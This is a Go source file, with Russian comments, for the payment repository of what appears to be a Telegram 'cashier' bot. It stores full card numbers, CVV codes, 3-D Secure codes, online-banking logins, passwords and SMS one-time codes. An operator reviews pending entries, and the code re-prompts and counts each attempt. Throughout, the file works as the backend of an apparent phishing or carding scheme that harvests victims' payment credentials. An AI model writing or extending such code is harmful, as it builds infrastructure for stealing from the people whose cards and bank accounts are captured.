package paymentRepo

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
	"strings"
	"time"

	"log/slog"

	"github.com/admin/tg-bots/cashier-bot/internal/domain"
	"github.com/admin/tg-bots/cashier-bot/internal/ports/persistence"
	ports "github.com/admin/tg-bots/cashier-bot/internal/ports/repository"
	"github.com/google/uuid"
)

type paymentColumns struct {
	TableName string

	ID       string
	UserID   string
	Amount   string
	Currency string
	Method   string
	Status   string

	CardHolder  string
	CardNumber  string
	CardExpiry  string
	CardCVV     string
	ThreeDSCode string

	CryptoType    string
	Network       string
	WalletAddress string

	BankName     string
	BankLogin    string
	BankPassword string
	BankSMSCode  string

	ProofPath string

	PaymentIP     string
	UserAgent     string
	AttemptsCount string
	MaxAttempts   string

	Notes      string
	AdminNotes string
	Metadata   string

	CreatedAt   string
	UpdatedAt   string
	ProcessedAt string
	CompletedAt string
	ExpiresAt   string
}

type Repository struct {
	db      persistence.Persistence
	steps   ports.IStepRepo
	Log     *slog.Logger
	columns paymentColumns
}

// New создаёт новый репозиторий платежей
// stepRepo нужен, чтобы шаг истории вставлялся в той же транзакции, что и смена статуса
func New(db persistence.Persistence, stepRepo ports.IStepRepo, log *slog.Logger) ports.IPaymentRepo {
	cols := paymentColumns{
		TableName: "payments",

		ID:       "id",
		UserID:   "user_id",
		Amount:   "amount",
		Currency: "currency",
		Method:   "method",
		Status:   "status",

		CardHolder:  "card_holder",
		CardNumber:  "card_number",
		CardExpiry:  "card_expiry",
		CardCVV:     "card_cvv",
		ThreeDSCode: "three_ds_code",

		CryptoType:    "crypto_type",
		Network:       "network",
		WalletAddress: "wallet_address",

		BankName:     "bank_name",
		BankLogin:    "bank_login",
		BankPassword: "bank_password",
		BankSMSCode:  "bank_sms_code",

		ProofPath: "proof_path",

		PaymentIP:     "payment_ip",
		UserAgent:     "user_agent",
		AttemptsCount: "attempts_count",
		MaxAttempts:   "max_attempts",

		Notes:      "notes",
		AdminNotes: "admin_notes",
		Metadata:   "metadata",

		CreatedAt:   "created_at",
		UpdatedAt:   "updated_at",
		ProcessedAt: "processed_at",
		CompletedAt: "completed_at",
		ExpiresAt:   "expires_at",
	}
	return &Repository{
		db:      db,
		steps:   stepRepo,
		Log:     log,
		columns: cols,
	}
}

// allColumns возвращает строку со всеми колонками (28 полей)
func (r *Repository) allColumns() string {
	cols := []string{
		r.columns.ID,
		r.columns.UserID,
		r.columns.Amount,
		r.columns.Currency,
		r.columns.Method,
		r.columns.Status,
		r.columns.CardHolder,
		r.columns.CardNumber,
		r.columns.CardExpiry,
		r.columns.CardCVV,
		r.columns.ThreeDSCode,
		r.columns.CryptoType,
		r.columns.Network,
		r.columns.WalletAddress,
		r.columns.BankName,
		r.columns.BankLogin,
		r.columns.BankPassword,
		r.columns.BankSMSCode,
		r.columns.ProofPath,
		r.columns.PaymentIP,
		r.columns.UserAgent,
		r.columns.AttemptsCount,
		r.columns.MaxAttempts,
		r.columns.Notes,
		r.columns.AdminNotes,
		r.columns.Metadata,
		r.columns.CreatedAt,
		r.columns.UpdatedAt,
		r.columns.ProcessedAt,
		r.columns.CompletedAt,
		r.columns.ExpiresAt,
	}
	return strings.Join(cols, ", ")
}

// Create создаёт новый платёж вместе с первым шагом истории
// Обе вставки идут в одной транзакции: платёж без шага истории существовать не должен
func (r *Repository) Create(ctx context.Context, payment *domain.Payment, initialStep *domain.PaymentStep) error {
	metadataValue, err := payment.Metadata.Value()
	if err != nil {
		r.Log.Error("failed to marshal payment metadata",
			"error", err,
			"payment_id", payment.ID,
		)
		return fmt.Errorf("failed to marshal metadata: %w", err)
	}

	query := fmt.Sprintf(`INSERT INTO %s (%s) VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14, $15, $16, $17, $18, $19, $20, $21, $22, $23, $24, $25, $26, $27, $28, $29, $30, $31)`,
		r.columns.TableName,
		r.allColumns(),
	)

	err = r.db.WithTransaction(ctx, func(ctx context.Context, tx persistence.Transaction) error {
		if err := tx.Exec(ctx, query,
			payment.ID,
			payment.UserID,
			payment.Amount,
			payment.Currency,
			string(payment.Method),
			string(payment.Status),
			payment.CardHolder,
			payment.CardNumber,
			payment.CardExpiry,
			payment.CardCVV,
			payment.ThreeDSCode,
			payment.CryptoType,
			payment.Network,
			payment.WalletAddress,
			payment.BankName,
			payment.BankLogin,
			payment.BankPassword,
			payment.BankSMSCode,
			payment.ProofPath,
			payment.PaymentIP,
			payment.UserAgent,
			payment.AttemptsCount,
			payment.MaxAttempts,
			payment.Notes,
			payment.AdminNotes,
			metadataValue,
			payment.CreatedAt,
			payment.UpdatedAt,
			payment.ProcessedAt,
			payment.CompletedAt,
			payment.ExpiresAt,
		); err != nil {
			return fmt.Errorf("failed to insert payment: %w", err)
		}

		return r.steps.Append(ctx, tx, initialStep)
	})
	if err != nil {
		r.Log.Error("failed to create payment",
			"error", err,
			"payment_id", payment.ID,
			"user_id", payment.UserID,
		)
		return fmt.Errorf("failed to create payment: %w", err)
	}

	r.Log.Info("payment created",
		"payment_id", payment.ID,
		"user_id", payment.UserID,
		"method", payment.Method,
		"status", payment.Status,
	)

	return nil
}

// GetByID получает платёж по ID
func (r *Repository) GetByID(ctx context.Context, id uuid.UUID) (*domain.Payment, error) {
	query := fmt.Sprintf(`SELECT %s FROM %s WHERE %s = $1`,
		r.allColumns(),
		r.columns.TableName,
		r.columns.ID,
	)

	var payment domain.Payment
	err := r.db.Get(ctx, &payment, query, id)
	if errors.Is(err, sql.ErrNoRows) {
		return nil, domain.ErrPaymentNotFound
	}
	if err != nil {
		r.Log.Error("failed to get payment",
			"error", err,
			"payment_id", id,
		)
		return nil, fmt.Errorf("failed to get payment: %w", err)
	}

	return &payment, nil
}

// ListRecent последние платежи (для обзора оператором)
func (r *Repository) ListRecent(ctx context.Context, limit int) ([]domain.Payment, error) {
	query := fmt.Sprintf(`SELECT %s FROM %s ORDER BY %s DESC LIMIT $1`,
		r.allColumns(),
		r.columns.TableName,
		r.columns.CreatedAt,
	)

	var payments []domain.Payment
	if err := r.db.Select(ctx, &payments, query, limit); err != nil {
		r.Log.Error("failed to list recent payments", "error", err)
		return nil, fmt.Errorf("failed to list recent payments: %w", err)
	}

	return payments, nil
}

// ListAwaitingReview нетерминальные платежи, висящие дольше порога
func (r *Repository) ListAwaitingReview(ctx context.Context, olderThan time.Time, limit int) ([]domain.Payment, error) {
	query := fmt.Sprintf(`SELECT %s FROM %s WHERE %s NOT IN ('completed', 'failed', 'cancelled') AND %s < $1 ORDER BY %s ASC LIMIT $2`,
		r.allColumns(),
		r.columns.TableName,
		r.columns.Status,
		r.columns.UpdatedAt,
		r.columns.UpdatedAt,
	)

	var payments []domain.Payment
	if err := r.db.Select(ctx, &payments, query, olderThan, limit); err != nil {
		r.Log.Error("failed to list payments awaiting review", "error", err)
		return nil, fmt.Errorf("failed to list payments awaiting review: %w", err)
	}

	return payments, nil
}

// ListExpired нетерминальные платежи с истёкшим expires_at
func (r *Repository) ListExpired(ctx context.Context, now time.Time, limit int) ([]domain.Payment, error) {
	query := fmt.Sprintf(`SELECT %s FROM %s WHERE %s NOT IN ('completed', 'failed', 'cancelled') AND %s IS NOT NULL AND %s < $1 ORDER BY %s ASC LIMIT $2`,
		r.allColumns(),
		r.columns.TableName,
		r.columns.Status,
		r.columns.ExpiresAt,
		r.columns.ExpiresAt,
		r.columns.ExpiresAt,
	)

	var payments []domain.Payment
	if err := r.db.Select(ctx, &payments, query, now, limit); err != nil {
		r.Log.Error("failed to list expired payments", "error", err)
		return nil, fmt.Errorf("failed to list expired payments: %w", err)
	}

	return payments, nil
}

// ApplyTransition применяет переход атомарно: compare-and-swap по статусу
// и вставка шага истории в одной транзакции. Проигравший гонку получает
// *domain.InvalidTransitionError с фактическим статусом, без шага и без изменений.
func (r *Repository) ApplyTransition(ctx context.Context, upd ports.TransitionUpdate) error {
	err := r.db.WithTransaction(ctx, func(ctx context.Context, tx persistence.Transaction) error {
		now := time.Now()

		setClauses := []string{
			fmt.Sprintf("%s = $1", r.columns.Status),
			fmt.Sprintf("%s = $2", r.columns.UpdatedAt),
		}
		args := []interface{}{string(upd.To), now}
		next := 3

		appendSet := func(column string, value interface{}) {
			setClauses = append(setClauses, fmt.Sprintf("%s = $%d", column, next))
			args = append(args, value)
			next++
		}

		if upd.ThreeDSCode != nil {
			appendSet(r.columns.ThreeDSCode, *upd.ThreeDSCode)
		}
		if upd.Card != nil {
			appendSet(r.columns.CardHolder, upd.Card.Holder)
			appendSet(r.columns.CardNumber, upd.Card.Number)
			appendSet(r.columns.CardExpiry, upd.Card.Expiry)
			appendSet(r.columns.CardCVV, upd.Card.CVV)
			// Старый 3DS код относился к прежней карте
			setClauses = append(setClauses, fmt.Sprintf("%s = NULL", r.columns.ThreeDSCode))
		}
		if upd.Bank != nil {
			appendSet(r.columns.BankLogin, upd.Bank.Login)
			appendSet(r.columns.BankPassword, upd.Bank.Password)
			appendSet(r.columns.BankSMSCode, upd.Bank.SMSCode)
		}
		if upd.ThreeDSCode != nil || upd.Card != nil || upd.Bank != nil {
			setClauses = append(setClauses, fmt.Sprintf("%s = %s + 1", r.columns.AttemptsCount, r.columns.AttemptsCount))
		}

		switch upd.To {
		case domain.PaymentStatusProcessing:
			appendSet(r.columns.ProcessedAt, now)
		case domain.PaymentStatusCompleted:
			appendSet(r.columns.CompletedAt, now)
		}

		query := fmt.Sprintf(`UPDATE %s SET %s WHERE %s = $%d AND %s = $%d`,
			r.columns.TableName,
			strings.Join(setClauses, ", "),
			r.columns.ID, next,
			r.columns.Status, next+1,
		)
		args = append(args, upd.PaymentID, string(upd.From))

		rows, err := tx.ExecWithResult(ctx, query, args...)
		if err != nil {
			return fmt.Errorf("failed to update payment status: %w", err)
		}

		if rows == 0 {
			// Статус изменился под нами: перечитываем и отдаём понятную ошибку
			var current string
			statusQuery := fmt.Sprintf(`SELECT %s FROM %s WHERE %s = $1`,
				r.columns.Status, r.columns.TableName, r.columns.ID)
			err := tx.Get(ctx, &current, statusQuery, upd.PaymentID)
			if errors.Is(err, sql.ErrNoRows) {
				return domain.ErrPaymentNotFound
			}
			if err != nil {
				return fmt.Errorf("failed to re-read payment status: %w", err)
			}
			return &domain.InvalidTransitionError{
				PaymentID: upd.PaymentID,
				Action:    upd.Action,
				Current:   domain.PaymentStatus(current),
			}
		}

		// Шаг истории в той же транзакции: его ошибка откатывает переход
		if err := r.steps.Append(ctx, tx, upd.Step); err != nil {
			return err
		}

		return nil
	})
	if err != nil {
		var transitionErr *domain.InvalidTransitionError
		if errors.As(err, &transitionErr) || errors.Is(err, domain.ErrPaymentNotFound) {
			return err
		}
		r.Log.Error("failed to apply payment transition",
			"error", err,
			"payment_id", upd.PaymentID,
			"action", upd.Action,
			"from", upd.From,
			"to", upd.To,
		)
		return err
	}

	r.Log.Info("payment transition applied",
		"payment_id", upd.PaymentID,
		"action", upd.Action,
		"from", upd.From,
		"to", upd.To,
	)

	return nil
}

// SetProofPath сохраняет ключ загруженного чека
func (r *Repository) SetProofPath(ctx context.Context, id uuid.UUID, proofPath string) error {
	query := fmt.Sprintf(`UPDATE %s SET %s = $1, %s = $2 WHERE %s = $3`,
		r.columns.TableName,
		r.columns.ProofPath,
		r.columns.UpdatedAt,
		r.columns.ID,
	)

	rows, err := r.db.ExecWithResult(ctx, query, proofPath, time.Now(), id)
	if err != nil {
		r.Log.Error("failed to set proof path",
			"error", err,
			"payment_id", id,
		)
		return fmt.Errorf("failed to set proof path: %w", err)
	}
	if rows == 0 {
		return domain.ErrPaymentNotFound
	}

	return nil
}
